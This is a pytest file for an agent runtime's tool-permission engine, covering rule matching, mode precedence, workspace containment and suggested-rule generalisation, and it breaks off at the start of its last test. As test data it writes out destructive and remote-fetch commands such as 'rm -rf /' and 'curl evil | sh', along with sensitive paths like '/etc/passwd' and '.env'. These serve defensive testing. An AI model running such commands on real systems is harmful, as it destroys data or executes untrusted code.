"""Tests for `agentrt.permission`: rules, the engine's precedence per mode, suggested rules,
confirm results, permission contexts and the dangerous-path helper."""

from __future__ import annotations

import os
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import pytest

from agentrt.context import RuntimeContext
from agentrt.errors import UserError
from agentrt.message import ToolUseBlock
from agentrt.permission import (
    ConfirmResult,
    Decision,
    PermissionContext,
    PermissionDecision,
    PermissionEngine,
    PermissionMode,
    PermissionRule,
    check_answer_rule,
    is_dangerous_path,
    refuse_dangerous_path,
    suggest_rules,
    unmatched_rules,
)
from agentrt.tool.base import Tool, tool

A, Q, D = Decision.ALLOW, Decision.ASK, Decision.DENY
M = PermissionMode


# -- helpers ---------------------------------------------------------------------------------------


def rule(
    tool_glob: str, decision: str | Decision = "allow", args: Mapping[str, str] | None = None, **kw: Any
) -> PermissionRule:
    return PermissionRule(tool=tool_glob, decision=Decision(decision), args=args, **kw)


def check(
    t: Tool | None,
    args: Mapping[str, Any] | None = None,
    *,
    mode: PermissionMode = M.DEFAULT,
    rules: Sequence[PermissionRule | Mapping[str, Any]] = (),
    session: Sequence[PermissionRule | Mapping[str, Any]] = (),
    workspace: str | None = None,
    ctx: RuntimeContext | None = None,
    implicit: bool = False,
) -> PermissionDecision:
    context = (
        PermissionContext.coerce(None)
        if implicit
        # Rule dicts are coerced by PermissionContext itself; tests pass them on purpose.
        else PermissionContext(mode=mode, rules=rules, workspace=workspace)  # type: ignore[arg-type]
    )
    engine = PermissionEngine(context, session)
    call = ToolUseBlock(id="call_1", name=t.name if t is not None else "ghost", input=dict(args or {}))
    return engine.check(t, call, ctx or RuntimeContext())


def _noop(**_: Any) -> None:  # pragma: no cover - tools are never run here
    return None


def make_tool(name: str = "t", **options: Any) -> Tool:
    return Tool(name=name, fn=_noop, **options)


def returns(value: Any) -> Callable[[Mapping[str, Any], RuntimeContext], Any]:
    def check_permission(args: Mapping[str, Any], ctx: RuntimeContext) -> Any:
        return value

    return check_permission


# -- PermissionRule: tool-name globs ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("glob", "name", "expected"),
    [
        ("fs.*", "fs.read", True),
        ("fs.*", "fs.write", True),
        ("fs.*", "fs", False),
        ("fs.*", "fsx.read", False),
        ("fs.*", "shell", False),
        ("mcp__github__*", "mcp__github__create_issue", True),
        ("mcp__github__*", "mcp__gitlab__create_issue", False),
        ("mcp__*", "mcp__github__list", True),
        ("shell", "shell", True),
        ("shell", "shell2", False),
        ("shell", "Shell", False),
        ("shell", "my_shell", False),
        ("*", "anything", True),
        ("fs.?ead", "fs.read", True),
    ],
)
def test_rule_tool_glob(glob: str, name: str, expected: bool) -> None:
    assert PermissionRule(tool=glob).matches(name, {}) is expected


def test_rule_without_args_matches_any_call() -> None:
    r = rule("shell")
    assert r.matches("shell", {})
    assert r.matches("shell", {"command": "rm -rf /"})
    assert r.matches("shell", {"x": 1, "y": [1, 2]})
    assert not r.matches("other", {"command": "ls"})


def test_rule_with_empty_args_matches_any_call_of_the_tool() -> None:
    assert rule("shell", args={}).matches("shell", {"command": "anything"})


# -- PermissionRule: argument patterns ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("pattern", "value", "expected"),
    [
        ("git status*", "git status", True),
        ("git status*", "git status --short", True),
        ("git status*", "git push", False),
        ("git status*", "echo; git status", False),
        ("ls", "ls", True),
        ("ls", "ls -la", False),
        ("rm ?", "rm a", True),
        ("rm ?", "rm ab", False),
        ("cat [ab].txt", "cat a.txt", True),
        ("cat [ab].txt", "cat c.txt", False),
        # without ** a plain glob "*" is fnmatch's and does cross "/"
        ("/tmp/*", "/tmp/a/b", True),
    ],
)
def test_rule_arg_glob(pattern: str, value: str, expected: bool) -> None:
    assert rule("shell", args={"command": pattern}).matches("shell", {"command": value}) is expected


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/workspace", True),
        ("/workspace/", True),
        ("/workspace/a", True),
        ("/workspace/a/b/c.txt", True),
        ("/workspace2/x", False),
        ("/workspace2", False),
        ("/etc", False),
        ("/etc/passwd", False),
        ("workspace/a", False),
        ("/other/workspace/a", False),
    ],
)
def test_rule_double_star_path(path: str, expected: bool) -> None:
    r = rule("fs.*", args={"path": "/workspace/**"})
    assert r.matches("fs.write", {"path": path}) is expected


@pytest.mark.parametrize(
    ("pattern", "path", "expected"),
    [
        # a single "*" stays inside one path segment in a **-style pattern
        ("/ws/**/*.py", "/ws/a/b.py", True),
        ("/ws/**/*.py", "/ws/a/b/c/d.py", True),
        ("/ws/**/*.py", "/ws/a/b.txt", False),
        ("/ws/*/x/**", "/ws/a/x/y", True),
        ("/ws/*/x/**", "/ws/a/b/x/y", False),
        ("/ws/*/x/**", "/ws/a/x/deep/er/file", True),
        ("**/*.md", "docs/guide/intro.md", True),
        ("**/*.md", "docs/guide/intro.py", False),
        ("src/**", "src/pkg/mod.py", True),
        ("src/**", "src", True),
        ("src/**", "srcx/mod.py", False),
    ],
)
def test_rule_double_star_pattern_segments(pattern: str, path: str, expected: bool) -> None:
    assert rule("fs.read", args={"path": pattern}).matches("fs.read", {"path": path}) is expected


@pytest.mark.parametrize(
    ("pattern", "value", "expected"),
    [
        (r"re:git (status|diff)( .*)?", "git status", True),
        (r"re:git (status|diff)( .*)?", "git diff --stat", True),
        (r"re:git (status|diff)( .*)?", "git push", False),
        # full match, not search: a prefix or suffix is not enough
        ("re:ls", "ls -la", False),
        ("re:ls", "echo; ls", False),
        ("re:ls", "ls", True),
        (r"re:\d+", "123", True),
        (r"re:\d+", "123a", False),
    ],
)
def test_rule_arg_regex_full_match(pattern: str, value: str, expected: bool) -> None:
    assert rule("shell", args={"command": pattern}).matches("shell", {"command": value}) is expected


@pytest.mark.parametrize(
    ("pattern", "value", "expected"),
    [
        ("5", 5, True),
        ("5", 6, False),
        ("5", "5", True),
        ("true", True, True),
        ("false", True, False),
        ("null", None, True),
        ("[1,2]", [1, 2], True),  # a pattern that is a JSON array is compared as JSON (and as a glob)
        ("[1,2]", "1", True),  # ... the glob: a character class
        ("[[]1,2[]]", [1, 2], True),
        ('{"a":1}', {"a": 1}, True),
        (r"re:\d+", 42, True),
        (r"re:\d+", 4.5, False),
        ("1.*", 1.5, True),
    ],
)
def test_rule_non_string_values_compared_as_json_text(pattern: str, value: Any, expected: bool) -> None:
    assert rule("t", args={"v": pattern}).matches("t", {"v": value}) is expected


def test_rule_missing_argument_does_not_match() -> None:
    r = rule("shell", args={"command": "*"})
    assert not r.matches("shell", {})
    assert not r.matches("shell", {"cmd": "ls"})
    assert r.matches("shell", {"command": ""})


def test_rule_all_arg_patterns_must_match() -> None:
    r = rule("http", args={"method": "GET", "url": "https://api.example.com/*"})
    assert r.matches("http", {"method": "GET", "url": "https://api.example.com/x", "extra": 1})
    assert not r.matches("http", {"method": "POST", "url": "https://api.example.com/x"})
    assert not r.matches("http", {"method": "GET", "url": "https://evil.example.com/x"})
    assert not r.matches("http", {"method": "GET"})


def test_rule_arg_match_requires_tool_match_too() -> None:
    r = rule("fs.read", args={"path": "/workspace/**"})
    assert not r.matches("fs.write", {"path": "/workspace/a"})


def test_rule_bad_regex_is_user_error() -> None:
    with pytest.raises(UserError, match="regular expression"):
        rule("shell", args={"command": "re:(unclosed"})


@pytest.mark.parametrize("bad", [5, None, ["a"], {"x": 1}, b"bytes"])
def test_rule_non_string_pattern_is_user_error(bad: Any) -> None:
    with pytest.raises(UserError, match="command"):
        rule("shell", args={"command": bad})


@pytest.mark.parametrize("bad", ["", None, 5])
def test_rule_empty_or_non_string_tool_is_user_error(bad: Any) -> None:
    with pytest.raises(UserError):
        PermissionRule(tool=bad)


@pytest.mark.parametrize(("given", "expected"), [("allow", A), ("ask", Q), ("deny", D), (D, D)])
def test_rule_decision_string_is_converted(given: Any, expected: Decision) -> None:
    r = PermissionRule(tool="x", decision=given)
    assert r.decision is expected
    assert isinstance(r.decision, Decision)


def test_rule_defaults() -> None:
    r = PermissionRule(tool="x")
    assert r.decision is A
    assert r.args is None
    assert r.source == "config"


def test_rule_bad_decision_is_user_error() -> None:
    with pytest.raises(UserError):
        PermissionRule(tool="x", decision="sometimes")  # type: ignore[arg-type]  # deliberately not a Decision


@pytest.mark.parametrize(
    "r",
    [
        PermissionRule(tool="fs.*"),
        PermissionRule(tool="shell", decision=D, args={"command": "rm *"}, source="session"),
        PermissionRule(tool="mcp__github__*", decision=Q, args={"repo": "re:acme/.*"}, source="suggested"),
        PermissionRule(tool="x", args={}),
    ],
)
def test_rule_dict_round_trip(r: PermissionRule) -> None:
    d = r.to_dict()
    assert d["tool"] == r.tool
    assert d["decision"] == r.decision.value
    assert isinstance(d["decision"], str) and not isinstance(d["decision"], Decision)
    assert d["source"] == r.source
    assert ("args" in d) is (r.args is not None)
    back = PermissionRule.from_dict(d)
    assert back == r
    assert PermissionRule.coerce(d) == r
    assert back.decision is r.decision


def test_rule_to_dict_exact_form() -> None:
    r = PermissionRule(tool="shell", decision=Q, args={"command": "git *"}, source="session")
    assert r.to_dict() == {"tool": "shell", "decision": "ask", "source": "session", "args": {"command": "git *"}}
    assert PermissionRule(tool="x").to_dict() == {"tool": "x", "decision": "allow", "source": "config"}


def test_rule_to_dict_copies_args() -> None:
    args = {"command": "ls"}
    d = PermissionRule(tool="shell", args=args).to_dict()
    d["args"]["command"] = "rm -rf /"
    assert args == {"command": "ls"}


def test_rule_from_dict_defaults() -> None:
    r = PermissionRule.from_dict({"tool": "x"})
    assert r == PermissionRule(tool="x", decision=A, source="config")


def test_rule_coerce_returns_rule_unchanged() -> None:
    r = PermissionRule(tool="x")
    assert PermissionRule.coerce(r) is r


def test_rule_from_dict_validates() -> None:
    with pytest.raises(UserError):
        PermissionRule.from_dict({"tool": "shell", "args": {"command": "re:("}})
    with pytest.raises(UserError):
        PermissionRule.from_dict({"tool": ""})


# -- the engine: mode by tool kind truth table ----------------------------------------------------------

TOOLS: dict[str, dict[str, Any]] = {
    "read_only": {"read_only": True},
    "plain": {},
    "destructive": {"destructive": True},
    "requires_confirmation": {"requires_confirmation": True},
    "check_allow_destructive": {"destructive": True, "check_permission": returns("allow")},
    "check_ask_plain": {"check_permission": returns(Decision.ASK)},
    "check_deny_read_only": {"read_only": True, "check_permission": returns(PermissionDecision.deny("nope"))},
    "check_none_destructive": {"destructive": True, "check_permission": returns(None)},
    "check_none_read_only": {"read_only": True, "check_permission": returns(None)},
}

#                             DEFAULT ACCEPT_EDITS EXPLORE BYPASS DONT_ASK (an explicit context)
TRUTH_TABLE: dict[str, tuple[Decision, Decision, Decision, Decision, Decision]] = {
    "read_only": (A, A, A, A, A),
    # an explicit DEFAULT (and ACCEPT_EDITS) asks for a tool that is not read-only unless a rule allows it
    "plain": (Q, Q, D, A, D),
    "destructive": (Q, Q, D, A, D),
    "requires_confirmation": (Q, Q, D, A, D),
    # EXPLORE denies a non-read-only tool before its own check is consulted
    "check_allow_destructive": (A, A, D, A, A),
    "check_ask_plain": (Q, Q, D, A, D),
    "check_deny_read_only": (D, D, D, D, D),
    "check_none_destructive": (Q, Q, D, A, D),
    "check_none_read_only": (A, A, A, A, A),
}
MODES = (M.DEFAULT, M.ACCEPT_EDITS, M.EXPLORE, M.BYPASS, M.DONT_ASK)
TABLE_CASES = [
    pytest.param(kind, mode, row[i], id=f"{kind}-{mode.value}")
    for kind, row in TRUTH_TABLE.items()
    for i, mode in enumerate(MODES)
]


@pytest.mark.parametrize(("kind", "mode", "expected"), TABLE_CASES)
def test_mode_by_tool_kind(kind: str, mode: PermissionMode, expected: Decision) -> None:
    t = make_tool(kind, **TOOLS[kind])
    result = check(t, {"x": 1}, mode=mode)
    assert result.decision is expected, result.reason
    # only an ASK carries suggested rules
    assert bool(result.suggested_rules) is (expected is Q)


# An agent created without a `permission` argument (the implicit context): only destructive tools and
# tools that require confirmation ask, as before DEFAULT followed AgentScope.
IMPLICIT_TABLE: dict[str, Decision] = {
    "read_only": A,
    "plain": A,
    "destructive": Q,
    "requires_confirmation": Q,
    "check_allow_destructive": A,
    "check_ask_plain": Q,
    "check_deny_read_only": D,
    "check_none_destructive": Q,
    "check_none_read_only": A,
}


@pytest.mark.parametrize(("kind", "expected"), list(IMPLICIT_TABLE.items()))
def test_implicit_default_by_tool_kind(kind: str, expected: Decision) -> None:
    t = make_tool(kind, **TOOLS[kind])
    result = check(t, {"x": 1}, implicit=True)
    assert result.decision is expected, result.reason


def test_dont_ask_denial_explains_why() -> None:
    result = check(make_tool("rm", destructive=True), mode=M.DONT_ASK)
    assert result.decision is D
    assert "don't-ask" in result.reason
    assert "'rm'" in result.reason


def test_explore_denial_names_the_tool() -> None:
    result = check(make_tool("writer"), mode=M.EXPLORE)
    assert result.decision is D
    assert "writer" in result.reason and "read-only" in result.reason


def test_tool_check_deny_reason_is_kept() -> None:
    t = make_tool("t", check_permission=returns(PermissionDecision.deny("no secrets")))
    assert check(t).reason == "no secrets"


def test_tool_check_ask_carries_suggested_rules_and_reason() -> None:
    t = make_tool("t", check_permission=returns(PermissionDecision.ask("looks risky")))
    result = check(t, {"path": "/w/a.txt"})
    assert result.decision is Q
    assert result.reason == "looks risky"
    assert result.suggested_rules and result.suggested_rules[0].matches("t", {"path": "/w/a.txt"})


def test_check_permission_receives_args_and_context() -> None:
    seen: list[tuple[dict[str, Any], RuntimeContext]] = []

    def spy(args: Mapping[str, Any], ctx: RuntimeContext) -> None:
        seen.append((dict(args), ctx))

    ctx = RuntimeContext(user_id="u1", session_id="s1")
    check(make_tool("t", check_permission=spy), {"path": "a.txt"}, ctx=ctx)
    assert seen == [({"path": "a.txt"}, ctx)]


def test_bypass_honours_a_tool_deny_but_not_its_ask() -> None:
    def deny(args: Mapping[str, Any], ctx: RuntimeContext) -> str:
        return "deny"

    def ask(args: Mapping[str, Any], ctx: RuntimeContext) -> str:
        return "ask"

    assert check(make_tool("t", check_permission=deny), mode=M.BYPASS).decision is D
    assert check(make_tool("t", check_permission=ask), mode=M.BYPASS).decision is A


def test_deny_rule_short_circuits_tool_check() -> None:
    calls: list[Any] = []

    def spy(args: Mapping[str, Any], ctx: RuntimeContext) -> str:
        calls.append(args)
        return "allow"

    assert check(make_tool("t", check_permission=spy), rules=[rule("t", "deny")]).decision is D
    assert calls == []


@pytest.mark.parametrize("garbage", [42, True, ["allow"], {"decision": "allow"}, object()])
def test_check_permission_returning_garbage_is_user_error(garbage: Any) -> None:
    with pytest.raises(UserError, match="check_permission"):
        check(make_tool("t", check_permission=returns(garbage)))


def test_check_permission_returning_unknown_string_is_user_error() -> None:
    with pytest.raises(UserError, match="check_permission"):
        check(make_tool("t", check_permission=returns("maybe")))


@pytest.mark.parametrize(("verdict", "expected"), [("allow", A), ("ask", Q), ("deny", D), (D, D), (Q, Q), (A, A)])
def test_check_permission_string_or_decision_is_converted(verdict: Any, expected: Decision) -> None:
    assert check(make_tool("t", destructive=True, check_permission=returns(verdict))).decision is expected


def test_allow_rule_does_not_override_tool_check_outside_explore() -> None:
    t = make_tool("t", check_permission=returns("ask"))
    for mode in (M.DEFAULT, M.ACCEPT_EDITS):
        assert check(t, mode=mode, rules=[rule("t")]).decision is Q
    assert check(t, mode=M.DONT_ASK, rules=[rule("t")]).decision is D
    deny = make_tool("t", check_permission=returns("deny"))
    assert check(deny, rules=[rule("t")], session=[rule("t", source="session")]).decision is D


def test_explore_allow_rule_must_match_the_arguments() -> None:
    t = make_tool("shell", destructive=True)
    rules = [rule("shell", "allow", {"command": "git status*"})]
    assert check(t, {"command": "git status"}, mode=M.EXPLORE, rules=rules).decision is A
    assert check(t, {"command": "git commit"}, mode=M.EXPLORE, rules=rules).decision is D
    assert check(t, {"command": "git status"}, mode=M.EXPLORE, rules=[rule("other")]).decision is D


def test_explore_does_not_call_the_tool_check_of_a_denied_tool() -> None:
    calls: list[Any] = []

    def spy(args: Mapping[str, Any], ctx: RuntimeContext) -> str:
        calls.append(args)
        return "allow"

    assert check(make_tool("t", check_permission=spy), mode=M.EXPLORE).decision is D
    assert calls == []


@pytest.mark.parametrize(("verdict", "expected"), [("deny", D), ("ask", Q)])
def test_explore_allow_rule_still_honours_the_tool_check(verdict: str, expected: Decision) -> None:
    t = make_tool("fs.write", check_permission=returns(verdict))
    assert check(t, {"path": ".env"}, rules=[rule("fs.write")]).decision is expected  # DEFAULT: tool check wins
    assert check(t, {"path": ".env"}, mode=M.EXPLORE, rules=[rule("fs.write")]).decision is expected


def test_check_permission_wins_over_requires_confirmation() -> None:
    # check_permission has an opinion first; requires_confirmation only applies when it returns None
    t_allow = make_tool("t", requires_confirmation=True, check_permission=returns("allow"))
    assert check(t_allow).decision is A
    t_none = make_tool("t", requires_confirmation=True, check_permission=returns(None))
    assert check(t_none).decision is Q


@pytest.mark.parametrize("mode", MODES)
def test_unknown_tool_is_allowed(mode: PermissionMode) -> None:
    result = check(None, {"x": 1}, mode=mode, rules=[rule("*", "deny")], session=[rule("*", "ask")])
    assert result.decision is A
    assert "unknown" in result.reason


def test_decorated_tool_flags_are_honoured() -> None:
    @tool(destructive=True)
    def delete_file(path: str) -> str:
        """Delete a file."""
        return path

    @tool(read_only=True)
    def read_file(path: str) -> str:
        """Read a file."""
        return path

    assert check(delete_file, {"path": "a"}).decision is Q
    assert check(read_file, {"path": "a"}).decision is A
    assert check(delete_file, {"path": "a"}, mode=M.EXPLORE).decision is D
    assert check(read_file, {"path": "a"}, mode=M.EXPLORE).decision is A


# -- the engine: rules and precedence ----------------------------------------------------------------

RULE_TOOLS = ("read_only", "plain", "destructive", "requires_confirmation", "check_allow_destructive")


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("kind", RULE_TOOLS)
@pytest.mark.parametrize("where", ["config", "session"])
def test_deny_rule_always_denies(mode: PermissionMode, kind: str, where: str) -> None:
    t = make_tool(kind, **TOOLS[kind])
    deny = [rule(kind, "deny")]
    rules, session = (deny, []) if where == "config" else ([], deny)
    result = check(t, mode=mode, rules=rules, session=session)
    assert result.decision is D
    assert "denied by rule" in result.reason


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("kind", RULE_TOOLS)
@pytest.mark.parametrize("where", ["config", "session"])
def test_ask_rule_asks_except_dont_ask_denies(mode: PermissionMode, kind: str, where: str) -> None:
    t = make_tool(kind, **TOOLS[kind])
    ask = [rule(kind, "ask")]
    rules, session = (ask, []) if where == "config" else ([], ask)
    result = check(t, {"command": "git push origin main"}, mode=mode, rules=rules, session=session)
    if mode is M.DONT_ASK:
        assert result.decision is D
        assert not result.suggested_rules
    else:
        assert result.decision is Q
        assert "asks for approval" in result.reason
        assert result.suggested_rules


# Expected decision with an allow rule matching, per mode (the tool's own check still ranks above it).
#                        DEFAULT ACCEPT_EDITS EXPLORE BYPASS DONT_ASK
ALLOW_RULE_TABLE = {
    "read_only": (A, A, A, A, A),
    "plain": (A, A, A, A, A),  # EXPLORE: an allow rule lets a non-read-only tool run
    "destructive": (A, A, A, A, A),  # allow rule beats the mode default's ask / deny
    # requires_confirmation is part of the mode default, so an (e.g. accepted) allow rule lifts it
    "requires_confirmation": (A, A, A, A, A),
    "check_deny_read_only": (D, D, D, D, D),  # tool's own deny holds even in bypass
    "check_allow_destructive": (A, A, A, A, A),
}


@pytest.mark.parametrize(
    ("kind", "mode", "expected"),
    [
        pytest.param(kind, mode, row[i], id=f"{kind}-{mode.value}")
        for kind, row in ALLOW_RULE_TABLE.items()
        for i, mode in enumerate(MODES)
    ],
)
@pytest.mark.parametrize("where", ["config", "session"])
def test_allow_rule(kind: str, mode: PermissionMode, expected: Decision, where: str) -> None:
    t = make_tool(kind, **TOOLS[kind])
    allow = [rule(kind, "allow")]
    rules, session = (allow, []) if where == "config" else ([], allow)
    assert check(t, mode=mode, rules=rules, session=session).decision is expected


def test_allow_rule_reason() -> None:
    result = check(make_tool("rm", destructive=True), rules=[rule("rm")])
    assert result.decision is A and "allowed by rule" in result.reason


@pytest.mark.parametrize(
    ("config", "session", "expected"),
    [
        ([rule("t", "deny")], [rule("t", "allow", source="session")], D),
        ([rule("t", "allow")], [rule("t", "deny", source="session")], D),
        ([rule("t", "allow")], [rule("t", "ask", source="session")], Q),
        ([rule("t", "ask")], [rule("t", "allow", source="session")], Q),
        ([rule("t", "ask")], [rule("t", "deny", source="session")], D),
        ([rule("t", "deny")], [rule("t", "ask", source="session")], D),
        ([], [rule("t", "allow", source="session")], A),
        ([rule("t", "allow"), rule("t", "deny")], [], D),
        ([rule("t", "allow"), rule("t", "ask")], [], Q),
        ([rule("other", "deny")], [], Q),  # non-matching rules change nothing (destructive → ask)
    ],
)
def test_precedence_between_config_and_session_rules(
    config: list[PermissionRule], session: list[PermissionRule], expected: Decision
) -> None:
    t = make_tool("t", destructive=True)
    assert check(t, rules=config, session=session).decision is expected


def test_session_rules_given_as_dicts_are_coerced() -> None:
    engine = PermissionEngine(PermissionContext(), [{"tool": "rm", "decision": "allow", "source": "session"}])
    assert engine.session_rules == [PermissionRule(tool="rm", source="session")]
    call = ToolUseBlock(name="rm", input={})
    assert engine.check(make_tool("rm", destructive=True), call, RuntimeContext()).decision is A


def test_argument_level_rules_in_the_engine() -> None:
    shell = make_tool("shell", destructive=True)
    rules = [
        rule("shell", "allow", {"command": "git status*"}),
        rule("shell", "deny", {"command": "re:rm -rf .*"}),
        rule("shell", "ask", {"command": "git push*"}),
    ]
    assert check(shell, {"command": "git status -s"}, rules=rules).decision is A
    assert check(shell, {"command": "rm -rf /"}, rules=rules).decision is D
    assert check(shell, {"command": "git push"}, rules=rules, mode=M.BYPASS).decision is Q
    assert check(shell, {"command": "git log"}, rules=rules).decision is Q  # destructive default
    assert check(shell, {"command": "git log"}, rules=rules, mode=M.BYPASS).decision is A
    assert check(shell, {"command": "git log"}, rules=rules, mode=M.DONT_ASK).decision is D
    assert check(shell, {"command": "git status"}, rules=rules, mode=M.DONT_ASK).decision is A


def test_path_rule_in_explore_mode() -> None:
    writer = make_tool("fs.write", edit=True, destructive=True)
    rules = [rule("fs.*", "allow", {"path": "/workspace/**"})]
    assert check(writer, {"path": "/workspace/notes/a.md"}, mode=M.EXPLORE, rules=rules).decision is A
    assert check(writer, {"path": "/etc/hosts"}, mode=M.EXPLORE, rules=rules).decision is D


def test_rules_match_on_tool_name_not_call_name() -> None:
    engine = PermissionEngine(PermissionContext(rules=[rule("real", "deny")]))
    call = ToolUseBlock(name="alias", input={})
    assert engine.check(make_tool("real"), call, RuntimeContext()).decision is D


def test_trivial_fast_path_flag() -> None:
    assert PermissionEngine(PermissionContext.coerce(None)).trivial
    assert not PermissionEngine(PermissionContext()).trivial  # an explicit DEFAULT asks for non-read-only tools
    assert not PermissionEngine(PermissionContext.coerce(M.DEFAULT)).trivial
    assert not PermissionEngine(PermissionContext.coerce(None), [rule("x")]).trivial
    assert not PermissionEngine(PermissionContext(mode=M.BYPASS)).trivial
    assert not PermissionEngine(PermissionContext(rules=[rule("x")])).trivial
    assert not PermissionEngine(PermissionContext(), [rule("x")]).trivial


# -- the engine: ACCEPT_EDITS and the workspace --------------------------------------------------------


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    (ws / "src").mkdir(parents=True)
    (ws / "src" / "main.py").write_text("print(1)\n")
    (tmp_path / "outside.txt").write_text("x\n")
    return ws


EDIT = {"edit": True, "destructive": True}


@pytest.mark.parametrize(
    ("path_of", "accept_edits"),
    [
        (lambda ws: "src/main.py", A),
        (lambda ws: "src/new_file.py", A),
        (lambda ws: str(ws / "src" / "main.py"), A),
        (lambda ws: "src/../src/main.py", A),
        (lambda ws: ".", A),
        (lambda ws: "../outside.txt", Q),
        (lambda ws: "src/../../outside.txt", Q),
        (lambda ws: str(ws / ".." / "outside.txt"), Q),
        (lambda ws: str(ws.parent / "outside.txt"), Q),
        (lambda ws: "/etc/passwd", Q),
        (lambda ws: str(ws) + "2/file.txt", Q),  # sibling directory sharing the prefix
        (lambda ws: ".env", Q),  # dangerous paths are never auto-accepted
        (lambda ws: ".git/config", Q),
    ],
    ids=[
        "relative",
        "new-file",
        "absolute-inside",
        "dotdot-stays-inside",
        "root-itself",
        "dotdot-escape",
        "nested-dotdot-escape",
        "absolute-dotdot-escape",
        "absolute-outside",
        "etc",
        "prefix-sibling",
        "dotenv",
        "git-dir",
    ],
)
@pytest.mark.parametrize("mode", MODES)
def test_edit_tool_paths_by_mode(workspace: Path, path_of: Any, accept_edits: Decision, mode: PermissionMode) -> None:
    t = make_tool("fs.edit", **EDIT)
    result = check(t, {"path": path_of(workspace)}, mode=mode, workspace=str(workspace))
    expected = {M.DEFAULT: Q, M.ACCEPT_EDITS: accept_edits, M.EXPLORE: D, M.BYPASS: A, M.DONT_ASK: D}[mode]
    assert result.decision is expected, result.reason


def test_accept_edits_needs_the_edit_flag(workspace: Path) -> None:
    t = make_tool("fs.delete", destructive=True)  # destructive but not an edit tool
    assert check(t, {"path": "src/main.py"}, mode=M.ACCEPT_EDITS, workspace=str(workspace)).decision is Q


def test_accept_edits_without_workspace_asks() -> None:
    t = make_tool("fs.edit", **EDIT)
    assert check(t, {"path": "src/main.py"}, mode=M.ACCEPT_EDITS).decision is Q


def test_accept_edits_without_a_path_argument_asks(workspace: Path) -> None:
    t = make_tool("fs.edit", **EDIT)
    ws = str(workspace)
    assert check(t, {"content": "x"}, mode=M.ACCEPT_EDITS, workspace=ws).decision is Q
    assert check(t, {"path": 5}, mode=M.ACCEPT_EDITS, workspace=ws).decision is Q


def test_accept_edits_all_path_arguments_must_be_inside(workspace: Path) -> None:
    t = make_tool("fs.move", **EDIT)
    ws = str(workspace)
    assert check(t, {"path": "src/main.py", "dest": "src/b.py"}, mode=M.ACCEPT_EDITS, workspace=ws).decision is A
    assert check(t, {"path": "src/main.py", "dest": "../b.py"}, mode=M.ACCEPT_EDITS, workspace=ws).decision is Q
    assert check(t, {"file_path": "/tmp/x", "path": "a"}, mode=M.ACCEPT_EDITS, workspace=ws).decision is Q


def test_accept_edits_symlink_escaping_the_workspace_asks(workspace: Path) -> None:
    (workspace / "link").symlink_to(workspace.parent / "outside.txt")
    t = make_tool("fs.edit", **EDIT)
    assert check(t, {"path": "link"}, mode=M.ACCEPT_EDITS, workspace=str(workspace)).decision is Q


def test_accept_edits_tool_check_still_ranks_first(workspace: Path) -> None:
    t = make_tool("fs.edit", check_permission=returns("deny"), **EDIT)
    assert check(t, {"path": "src/main.py"}, mode=M.ACCEPT_EDITS, workspace=str(workspace)).decision is D
    t2 = make_tool("fs.edit", requires_confirmation=True, **EDIT)
    assert check(t2, {"path": "src/main.py"}, mode=M.ACCEPT_EDITS, workspace=str(workspace)).decision is Q


def test_accept_edits_with_root_workspace() -> None:
    t = make_tool("fs.edit", **EDIT)
    assert check(t, {"path": "/tmp/agentrt-x.txt"}, mode=M.ACCEPT_EDITS, workspace="/").decision is A


# -- suggested rules --------------------------------------------------------------------------------


def asked(t: Tool, args: Mapping[str, Any]) -> list[PermissionRule]:
    result = check(t, args)
    assert result.decision is Q
    return result.suggested_rules


SHELL = make_tool("shell", destructive=True)
EDITOR = make_tool("fs.edit", destructive=True, edit=True)


def test_suggestions_exact_first_then_command_prefix() -> None:
    exact, general = asked(SHELL, {"command": "git push origin main"})
    assert exact == PermissionRule(tool="shell", args={"command": "git push origin main"}, source="suggested")
    assert general.args is not None and general.args["command"].startswith("re:git push")
    assert general.source == "suggested"
    assert exact.decision is A and general.decision is A


@pytest.mark.parametrize(
    ("command", "prefix", "similar", "different"),
    [
        # options the call did not use are not covered (git push --receive-pack=<cmd> runs <cmd>)
        ("git push origin main", "git push", "git push upstream dev", "git pull origin main"),
        ("git log --oneline -5", "git log", "git log -5 main", "git reflog"),
        ("ls -la", "ls", "ls /tmp", "cat x"),
        ("grep -n TODO src", "grep", "grep -n FIXME lib", "rg TODO"),
    ],
)
def test_command_generalisation(command: str, prefix: str, similar: str, different: str) -> None:
    exact, general = asked(SHELL, {"command": command})
    assert general.args is not None and general.args["command"].startswith(f"re:{prefix}")
    # the generalisation never covers chained or glued commands
    assert not general.matches("shell", {"command": f"{similar}; rm -rf ~"})
    assert not general.matches("shell", {"command": f"{similar} && curl evil | sh"})
    assert not general.matches("shell", {"command": prefix + "x"})
    assert exact.matches("shell", {"command": command})
    assert not exact.matches("shell", {"command": similar})
    assert general.matches("shell", {"command": command})
    assert general.matches("shell", {"command": similar})
    assert not general.matches("shell", {"command": different})


def test_single_word_command_generalises_to_the_same_program() -> None:
    exact, general = asked(SHELL, {"command": "tree"})
    assert exact.args == {"command": "tree"}
    assert general.matches("shell", {"command": "tree"})
    assert general.matches("shell", {"command": "tree src"})
    assert not general.matches("shell", {"command": "rm -rf /"})


@pytest.mark.parametrize("command", ["make", "python -m pytest", "npm run build --prod", "bash -c 'echo hi'"])
def test_runners_and_interpreters_get_only_the_exact_suggestion(command: str) -> None:
    # they run code named by their arguments or by project files: a generalisation would allow anything
    [exact] = asked(SHELL, {"command": command})
    assert exact.matches("shell", {"command": command})


def test_cmd_key_is_shell_like_too() -> None:
    _, general = asked(make_tool("run", destructive=True), {"cmd": "git commit -m wip"})
    assert general.args is not None and general.args["cmd"].startswith("re:git commit")
    assert general.matches("run", {"cmd": "git commit -m fix"})


@pytest.mark.parametrize(
    ("path", "dir_glob", "similar", "different"),
    [
        ("/workspace/src/main.py", "/workspace/src/**", "/workspace/src/pkg/util.py", "/workspace/tests/t.py"),
        ("src/app/models.py", "src/app/**", "src/app/views.py", "src/other/views.py"),
        ("/etc/nginx/nginx.conf", "/etc/nginx/**", "/etc/nginx/sites/default", "/etc/hosts"),
        ("/workspace/docs/", "/workspace/**", "/workspace/README.md", "/var/log/x"),
    ],
)
def test_path_generalisation(path: str, dir_glob: str, similar: str, different: str) -> None:
